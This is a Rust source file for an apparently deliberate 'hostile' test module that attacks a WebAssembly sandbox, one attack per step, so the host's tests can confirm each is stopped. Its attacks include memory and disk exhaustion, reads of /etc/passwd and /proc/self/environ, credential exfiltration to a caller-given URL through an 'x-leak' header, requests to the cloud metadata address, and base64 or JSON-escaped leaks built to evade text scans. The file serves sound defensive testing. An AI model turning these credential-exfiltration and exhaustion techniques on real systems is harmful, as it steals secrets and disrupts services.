//! A module that attacks its sandbox, one attack per step (`{"attack": "..."}`), and
//! reports what it got. The host's tests expect each attack to be stopped. `ok` is a
//! well-behaved step, used to check the host still serves after an attack.

use flow8_sdk::http::Request;
use flow8_sdk::{Credential, Error, Manifest, Module, credentials, log};
use serde_json::{Map, Value, json};

struct Hostile;

/// The step's output. Normally a value; `{"__raw_output": TEXT}` is written out as TEXT
/// itself, so an attack can choose the exact JSON text (its escapes) the host parses.
struct Out(Value);

impl serde::Serialize for Out {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        match self.0.get("__raw_output").and_then(Value::as_str) {
            Some(text) => serde_json::value::RawValue::from_string(text.to_string())
                .map_err(serde::ser::Error::custom)?
                .serialize(s),
            None => self.0.serialize(s),
        }
    }
}

/// Every secret field of `binding`, joined with commas.
fn secret_text(binding: &str) -> Result<String, Error> {
    let secrets = credentials::get(binding)?;
    Ok(secrets
        .names()
        .filter_map(|n| secrets.field(n))
        .collect::<Vec<_>>()
        .join(","))
}

/// `text` with every character as a JSON `\u` escape.
fn json_escaped(text: &str) -> String {
    text.chars()
        .map(|c| format!("\\u{:04x}", c as u32))
        .collect()
}

const B64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

fn base64(bytes: &[u8]) -> String {
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk.len();
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let v = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= n {
                out.push(B64[((v >> (18 - 6 * i)) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn report(e: &Error) -> Value {
    json!({"error": {"kind": e.name(), "message": e.message()}})
}

#[inline(never)]
fn recurse(depth: u64, acc: &mut [u64; 16]) -> u64 {
    if depth == u64::MAX {
        return 0;
    }
    acc[(depth % 16) as usize] = acc[(depth % 16) as usize].wrapping_add(depth);
    let r = recurse(std::hint::black_box(depth + 1), acc);
    r.wrapping_add(acc[(depth % 7) as usize])
}

/// Occurrences of `needle` anywhere in this module's linear memory, other than the
/// needle's own buffer.
fn scan_memory(needle: &[u8]) -> usize {
    if needle.is_empty() {
        return 0;
    }
    #[cfg(target_arch = "wasm32")]
    let size = core::arch::wasm32::memory_size(0) * 65536;
    #[cfg(not(target_arch = "wasm32"))]
    let size = 0usize;
    let own = needle.as_ptr() as usize..needle.as_ptr() as usize + needle.len();
    let mut hits = 0;
    let mut addr = 1usize;
    while addr + needle.len() <= size {
        if !own.contains(&addr) {
            // SAFETY: every address below memory_size is readable linear memory in wasm.
            let matches = (0..needle.len())
                .all(|i| unsafe { core::ptr::read_volatile((addr + i) as *const u8) } == needle[i]);
            if matches {
                hits += 1;
            }
        }
        addr += 1;
    }
    hits
}

/// What `leave_in_memory` keeps in a static for a later step to find (it must not).
static LEFT_BEHIND: std::sync::Mutex<Vec<u8>> = std::sync::Mutex::new(Vec::new());

/// The needle a test sends XOR-masked (so its plain bytes are never in the input).
fn unmask(input: &Value) -> Vec<u8> {
    input["needle_xor"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|b| b.as_u64())
                .map(|b| (b as u8) ^ 0x5a)
                .collect()
        })
        .unwrap_or_default()
}

fn str_param<'a>(input: &'a Value, k: &str) -> Result<&'a str, Error> {
    input[k]
        .as_str()
        .ok_or_else(|| Error::invalid_input(format!("`{k}` is required")))
}

impl Module for Hostile {
    type Input = Value;
    type Output = Out;

    fn manifest() -> Manifest {
        Manifest::new("hostile", "0.1.0")
            .declare_credentials_get()
            .description("Test module that attacks its sandbox.")
            .input_schema(json!({"type": "object", "required": ["attack"], "properties": {"attack": {"type": "string"}}}))
            .credential(Credential::component("api", "http").optional())
            .credential(Credential::component("s3", "s3").optional())
            .credential(Credential::component("smtp", "smtp").optional())
            .credential(Credential::component("ftp", "ftp").optional())
            .credential(Credential::component("ai", "openai").optional())
            .credential(
                Credential::oauth_link("google", "google")
                    .scopes(["drive"])
                    .input_field("link_id")
                    .optional(),
            )
            // Links bound as the Microsoft 365 and Google modules bind theirs (one
            // service each, scopes in the manifest), for the memory scans of the
            // request shapes those modules send.
            .credential(
                Credential::oauth_link("microsoft", "microsoft")
                    .scopes(["Mail.Send"])
                    .input_field("microsoft_link_id")
                    .optional(),
            )
            .credential(
                Credential::oauth_link("workspace", "google")
                    .scopes(["https://www.googleapis.com/auth/drive.file"])
                    .input_field("google_link_id")
                    .optional(),
            )
            // A link of any service (as `api-request` binds it), named by `any_link_id`.
            .credential(
                Credential::any_oauth_link("any")
                    .input_field("any_link_id")
                    .scopes_field("any_scopes")
                    .optional(),
            )
            .allowed_host("http://127.0.0.1:*")
            .allowed_host("http://localhost:*")
            .allowed_host("http://[::1]:*")
            .allowed_host("http://169.254.169.254")
    }

    fn execute(input: Value) -> Result<Out, Error> {
        attack(input).map(Out)
    }
}

/// One attack, by `input.attack`.
fn attack(input: Value) -> Result<Value, Error> {
    // A block, so the attacks keep the indentation they had in `execute` (other
    // branches add attacks here too; a re-indented copy would not merge).
    {
        match str_param(&input, "attack")? {
            "ok" => Ok(json!({"ok": true, "echo": input})),
            "loop" => {
                let mut x: u64 = 0;
                loop {
                    x = std::hint::black_box(x.wrapping_add(1));
                }
            }
            "memory_bomb" => {
                // Keep taking 1 MiB chunks and touching every page until the allocator
                // says no. `try_reserve` turns a refused `memory.grow` into a value, so
                // a host that lets the guest see the failure gets a count back; a host
                // that stops it at the limit traps here instead.
                const CHUNK: usize = 1024 * 1024;
                let mut chunks: Vec<Vec<u8>> = Vec::new();
                loop {
                    let mut c: Vec<u8> = Vec::new();
                    if c.try_reserve_exact(CHUNK).is_err() || chunks.try_reserve(1).is_err() {
                        return Ok(json!({"chunks": chunks.len(), "stopped": "allocation failed"}));
                    }
                    c.resize(CHUNK, 0);
                    for page in (0..CHUNK).step_by(4096) {
                        c[page] = 1;
                    }
                    chunks.push(std::hint::black_box(c));
                }
            }
            "recursion" => {
                let mut acc = [0u64; 16];
                Ok(json!({"result": recurse(0, &mut acc)}))
            }
            "big_output" => {
                let size = input["size"].as_u64().unwrap_or(8 * 1024 * 1024) as usize;
                Ok(Value::String("x".repeat(size)))
            }
            "read_env" => {
                let env: Map<String, Value> = std::env::vars()
                    .map(|(k, v)| (k, Value::String(v)))
                    .collect();
                let args: Vec<String> = std::env::args().collect();
                let mut paths: Vec<String> = [
                    "/etc/passwd",
                    "/etc/hostname",
                    "../../etc/passwd",
                    "/proc/self/environ",
                ]
                .iter()
                .map(|s| s.to_string())
                .collect();
                if let Some(extra) = input["paths"].as_array() {
                    paths.extend(extra.iter().filter_map(|p| p.as_str().map(str::to_string)));
                }
                let mut files = Map::new();
                for p in paths {
                    let found = match std::fs::read(&p) {
                        Ok(bytes) => {
                            json!({"bytes": bytes.len(), "head": String::from_utf8_lossy(&bytes[..bytes.len().min(64)])})
                        }
                        Err(e) => json!({"error": e.to_string()}),
                    };
                    files.insert(p, found);
                }
                Ok(json!({"env": env, "args": args, "files": files}))
            }
            "write_file" => {
                let path = str_param(&input, "path")?;
                if let Some(parent) = std::path::Path::new(path).parent() {
                    let _ = std::fs::create_dir_all(parent);
                }
                match std::fs::write(path, str_param(&input, "contents")?) {
                    Ok(()) => Ok(json!({"written": path})),
                    Err(e) => Ok(json!({"error": e.to_string()})),
                }
            }
            "read_file" => match std::fs::read_to_string(str_param(&input, "path")?) {
                Ok(s) => Ok(json!({"contents": s})),
                Err(e) => Ok(json!({"error": e.to_string()})),
            },
            "http" => {
                let method = input["method"].as_str().unwrap_or("GET");
                let mut req = Request::new(method, str_param(&input, "url")?);
                if let Some(body) = input["body"].as_str() {
                    req = req.body(body.as_bytes().to_vec());
                }
                if let Some(c) = input["credential"].as_str() {
                    req = req.credential(c);
                }
                if let Some(headers) = input["headers"].as_object() {
                    for (k, v) in headers {
                        req = req.header(k, v.as_str().unwrap_or_default());
                    }
                }
                match req.send() {
                    Ok(r) => Ok(json!({"status": r.status, "body": r.text()})),
                    Err(e) => Ok(report(&e)),
                }
            }
            "get_credential" => {
                let binding = str_param(&input, "binding")?;
                let secrets = match credentials::get(binding) {
                    Ok(s) => s,
                    Err(e) => return Ok(report(&e)),
                };
                let names: Vec<&str> = secrets.names().collect();
                let mut out = json!({"fields": names});
                if let Some(url) = input["send_to"].as_str() {
                    let leak = secrets
                        .names()
                        .filter_map(|n| secrets.field(n))
                        .collect::<Vec<_>>()
                        .join(",");
                    let sent = Request::get(url).header("x-leak", &leak).send();
                    out["sent"] = match sent {
                        Ok(r) => json!({"status": r.status}),
                        Err(e) => report(&e),
                    };
                }
                Ok(out)
            }
            "log" => {
                let n = input["lines"].as_u64().unwrap_or(1);
                for i in 0..n {
                    log::info(&format!("log line {i}"));
                }
                println!("to stdout");
                eprintln!("to stderr");
                Ok(json!({"logged": n}))
            }
            "s3_then_scan" => {
                // Upload through the host, then look for the secret everywhere this
                // module can see: the binding's config, and every byte of its own
                // linear memory. The needle arrives XOR-masked so the input itself does
                // not contain it; its decoded copy is skipped.
                let mut out = json!({});
                // Control: read the secret on purpose, so the scan must find it.
                let _held = if input["read_first"] == json!(true) {
                    Some(std::hint::black_box(credentials::get("s3")))
                } else {
                    None
                };
                out["upload"] =
                    match flow8_sdk::storage::put_object(&flow8_sdk::storage::PutObject {
                        credential: "s3".into(),
                        key: str_param(&input, "key")?.into(),
                        file_path: str_param(&input, "file_path")?.into(),
                        ..Default::default()
                    }) {
                        Ok(r) => json!({"etag": r.etag, "size": r.size}),
                        Err(e) => report(&e),
                    };
                let config = credentials::config("s3")
                    .map(|c| c.to_string())
                    .unwrap_or_default();
                let needle: Vec<u8> = input["needle_xor"]
                    .as_array()
                    .map(|a| {
                        a.iter()
                            .filter_map(|b| b.as_u64())
                            .map(|b| (b as u8) ^ 0x5a)
                            .collect()
                    })
                    .unwrap_or_default();
                out["config_has_secret"] = json!(
                    config
                        .as_bytes()
                        .windows(needle.len().max(1))
                        .any(|w| w == needle.as_slice())
                );
                out["memory_hits"] = json!(scan_memory(&needle));
                out["needle_len"] = json!(needle.len());
                Ok(out)
            }
            "smtp_then_scan" => {
                // Send an email through the host (which logs in with the component's
                // password), then look for that password in this module's memory (the
                // needle arrives XOR-masked). `read_first` reads a binding's secret on
                // purpose first: the control that makes a zero mean something, or,
                // with another binding, a taint the send must be refused for.
                let _held = input["read_first"]
                    .as_str()
                    .map(|binding| std::hint::black_box(credentials::get(binding)));
                let sent = flow8_sdk::mail::send(
                    &flow8_sdk::mail::Email::new("smtp", "scan")
                        .to(str_param(&input, "to")?)
                        .text("scan"),
                );
                let config = credentials::config("smtp")
                    .map(|c| c.to_string())
                    .unwrap_or_default();
                let needle = unmask(&input);
                Ok(json!({
                    "sent": match sent { Ok(s) => json!({"message_id": s.message_id}), Err(e) => report(&e) },
                    "config_has_secret": config.as_bytes().windows(needle.len().max(1)).any(|w| w == needle.as_slice()),
                    "memory_hits": scan_memory(&needle),
                    "needle_len": needle.len(),
                }))
            }
            "ftp_then_scan" => {
                // Upload a workspace file through the host (which logs in with the FTP
                // component's password), then look for the password in this module's
                // memory; `read_first` is the control that reads it on purpose.
                let _held = input["read_first"]
                    .as_str()
                    .map(|binding| std::hint::black_box(credentials::get(binding)));
                let sent = flow8_sdk::file_transfer::upload(
                    "ftp",
                    str_param(&input, "file_path")?,
                    str_param(&input, "remote_path")?,
                    false,
                );
                let needle = unmask(&input);
                Ok(json!({
                    "upload": match sent { Ok(t) => json!({"size": t.size}), Err(e) => report(&e) },
                    "memory_hits": scan_memory(&needle),
                    "needle_len": needle.len(),
                }))
            }
            "attach_then_scan" => {
                // Have the host attach a credential to a request, then look for the
                // secret in this module's memory (the needle arrives XOR-masked).
                let binding = str_param(&input, "credential")?;
                let _held = if input["read_first"] == json!(true) {
                    Some(std::hint::black_box(credentials::get(binding)))
                } else {
                    None
                };
                let url = str_param(&input, "url")?;
                // The request shape the modules that spend a link send (`via`): a GET
                // (read mail, contacts), a JSON POST (send mail, share, sheets), raw
                // bytes (Gmail's media upload), a workspace file or range as the body
                // (OneDrive, Drive), or the answer streamed into the workspace
                // (onedrive-download).
                let file = input["file_path"].as_str().unwrap_or("/scan.bin");
                let sent = match input["via"].as_str().unwrap_or("get") {
                    "get" => Request::get(url).credential(binding).send(),
                    "json" => Request::post(url)
                        .json(&json!({"message": {"subject": "scan"}}))?
                        .credential(binding)
                        .send(),
                    "bytes" => Request::post(url)
                        .header("content-type", "message/rfc822")
                        .body(b"Subject: scan\r\n\r\nscan\r\n".to_vec())
                        .credential(binding)
                        .send(),
                    "workspace_file" => Request::put(url)
                        .workspace_file(file)
                        .credential(binding)
                        .send(),
                    "workspace_range" => {
                        let length = input["length"].as_u64().unwrap_or(1).max(1);
                        Request::put(url)
                            .header("content-range", &format!("bytes 0-{}/*", length - 1))
                            .workspace_range(file, 0, length)
                            .credential(binding)
                            .send()
                    }
                    "to_workspace" => Request::get(url)
                        .credential(binding)
                        .send_to_workspace(file, 1 << 20)
                        .map(|saved| saved.response),
                    other => {
                        return Err(Error::invalid_input(format!("unknown via `{other}`")));
                    }
                };
                let needle = unmask(&input);
                Ok(json!({
                    "status": sent.map(|r| r.status).ok(),
                    "memory_hits": scan_memory(&needle),
                    "needle_len": needle.len(),
                }))
            }
            "leave_in_memory" => {
                // Write the (XOR-unmasked) needle across the heap, a static buffer and
                // the stack, keep it all, and check it is there from inside.
                let needle = unmask(&input);
                if needle.is_empty() {
                    return Err(Error::invalid_input("`needle_xor` is required"));
                }
                let heap: Vec<u8> = needle.iter().copied().cycle().take(256 * 1024).collect();
                std::mem::forget(std::hint::black_box(heap));
                let mut on_stack = [0u8; 4096];
                for (d, s) in on_stack.iter_mut().zip(needle.iter().cycle()) {
                    *d = *s;
                }
                std::hint::black_box(&on_stack);
                let mut kept = LEFT_BEHIND.lock().expect("lock");
                kept.clear();
                kept.extend(needle.iter().copied().cycle().take(16 * 1024));
                drop(kept);
                Ok(json!({"memory_hits": scan_memory(&needle)}))
            }
            "scan_memory" => {
                let needle = unmask(&input);
                Ok(json!({
                    "memory_hits": scan_memory(&needle),
                    "left_behind": LEFT_BEHIND.lock().expect("lock").len(),
                }))
            }
            "empty_lines" => {
                // Millions of empty stdout lines in few, large writes: each line must
                // cost the log something, or the host keeps millions of them.
                use std::io::Write;
                let lines = input["lines"].as_u64().unwrap_or(1_000_000) as usize;
                let chunk = vec![b'\n'; 64 * 1024];
                let mut out = std::io::stdout();
                let mut left = lines;
                while left > 0 {
                    let n = left.min(chunk.len());
                    let _ = out.write_all(&chunk[..n]);
                    left -= n;
                }
                let _ = out.flush();
                Ok(json!({"lines": lines}))
            }
            "big_error" => {
                let size = input["size"].as_u64().unwrap_or(8 * 1024 * 1024) as usize;
                Err(Error::internal("e".repeat(size)))
            }
            "read_many" => {
                // The same credential read over and over.
                let binding = str_param(&input, "binding")?;
                let times = input["times"].as_u64().unwrap_or(10_000);
                for _ in 0..times {
                    if let Err(e) = credentials::get(binding) {
                        return Ok(report(&e));
                    }
                }
                Ok(json!({"read": times}))
            }
            "hold_open" => {
                // One file opened again and again, every handle kept.
                let count = input["count"].as_u64().unwrap_or(20_000) as usize;
                let _ = std::fs::write("/held.txt", "x");
                let mut held = Vec::new();
                for i in 0..count {
                    match std::fs::File::open("/held.txt") {
                        Ok(f) => held.push(f),
                        Err(e) => return Ok(json!({"opened": i, "error": e.to_string()})),
                    }
                }
                Ok(json!({"opened": held.len()}))
            }
            "fill_workspace" => {
                // Write `mib` MiB to one file, 1 MiB at a time.
                use std::io::Write;
                let mib = input["mib"].as_u64().unwrap_or(512);
                let chunk = vec![7u8; 1024 * 1024];
                let mut f = match std::fs::File::create("/fill.bin") {
                    Ok(f) => f,
                    Err(e) => return Ok(json!({"error": e.to_string()})),
                };
                for i in 0..mib {
                    if let Err(e) = f.write_all(&chunk) {
                        return Ok(json!({"written_mib": i, "error": e.to_string()}));
                    }
                }
                Ok(json!({"written_mib": mib}))
            }
            "grow_file" => {
                // A file made large without writing it (a sparse `set_len`).
                let bytes = input["bytes"].as_u64().unwrap_or(1 << 30);
                match std::fs::File::create("/sparse.bin").and_then(|f| f.set_len(bytes)) {
                    Ok(()) => Ok(json!({"size": bytes})),
                    Err(e) => Ok(json!({"error": e.to_string()})),
                }
            }
            "many_files" => {
                let count = input["count"].as_u64().unwrap_or(20_000);
                let _ = std::fs::create_dir_all("/many");
                for i in 0..count {
                    if let Err(e) = std::fs::write(format!("/many/{i}"), "") {
                        return Ok(json!({"created": i, "error": e.to_string()}));
                    }
                }
                Ok(json!({"created": count}))
            }
            "secret_to_file" => {
                // Step 1 of a hand-over: the secret into the shared workspace.
                let leak = match secret_text(str_param(&input, "binding")?) {
                    Ok(l) => l,
                    Err(e) => return Ok(report(&e)),
                };
                let path = str_param(&input, "path")?;
                std::fs::write(path, leak.as_bytes())
                    .map_err(|e| Error::internal(e.to_string()))?;
                Ok(json!({"written": path}))
            }
            "file_to_url" => {
                // Step 2, with no credential: whatever the workspace holds, elsewhere.
                let contents = std::fs::read_to_string(str_param(&input, "path")?)
                    .map_err(|e| Error::invalid_input(e.to_string()))?;
                let sent = Request::new("POST", str_param(&input, "url")?)
                    .header("x-leak", contents.trim())
                    .body(contents.clone().into_bytes())
                    .send();
                Ok(json!({"sent": match sent {
                    Ok(r) => json!({"status": r.status}),
                    Err(e) => report(&e),
                }}))
            }
            "echo_then_forward" => {
                // Have the host attach a credential to a request an echo endpoint answers,
                // then send what came back elsewhere.
                let method = input["method"].as_str().unwrap_or("GET");
                let echoed = Request::new(method, str_param(&input, "url")?)
                    .credential(str_param(&input, "credential")?)
                    .send();
                let body = match echoed {
                    Ok(r) => r.text(),
                    Err(e) => return Ok(json!({"echo": report(&e)})),
                };
                let forwarded = Request::new("POST", str_param(&input, "forward_to")?)
                    .header("content-type", "text/plain")
                    .body(body.clone().into_bytes())
                    .send();
                Ok(json!({
                    "echo": {"body": body},
                    "forwarded": match forwarded {
                        Ok(r) => json!({"status": r.status}),
                        Err(e) => report(&e),
                    },
                }))
            }
            "leak_encoded" => {
                // Read a secret and hand it out in forms a textual search misses: JSON
                // escapes in the output text, base64 and JSON escapes in the log, and
                // base64 in an error message.
                let leak = match secret_text(str_param(&input, "binding")?) {
                    Ok(l) => l,
                    Err(e) => return Ok(report(&e)),
                };
                log::info(&format!("b64 {}", base64(leak.as_bytes())));
                log::info(&format!("escaped {}", json_escaped(&leak)));
                println!("stdout escaped {}", json_escaped(&leak));
                if input["as_error"] == json!(true) {
                    return Err(Error::invalid_input(format!(
                        "cannot use {}",
                        base64(leak.as_bytes())
                    )));
                }
                Ok(json!({"__raw_output": format!(
                    "{{\"escaped\":\"{}\",\"{}\":true,\"b64\":\"{}\"}}",
                    json_escaped(&leak),
                    json_escaped(&leak),
                    base64(leak.as_bytes()),
                )}))
            }
            "s3_put" => {
                let put = flow8_sdk::storage::put_object(&flow8_sdk::storage::PutObject {
                    credential: "s3".into(),
                    bucket: input["bucket"].as_str().map(str::to_string),
                    key: str_param(&input, "key")?.into(),
                    file_path: str_param(&input, "file_path")?.into(),
                    ..Default::default()
                });
                Ok(match put {
                    Ok(r) => json!({"etag": r.etag, "size": r.size}),
                    Err(e) => report(&e),
                })
            }
            "panic" => panic!("the hostile module panicked on purpose"),
            other => Err(Error::invalid_input(format!("unknown attack `{other}`"))),
        }
    }
}

flow8_sdk::export_module!(Hostile);
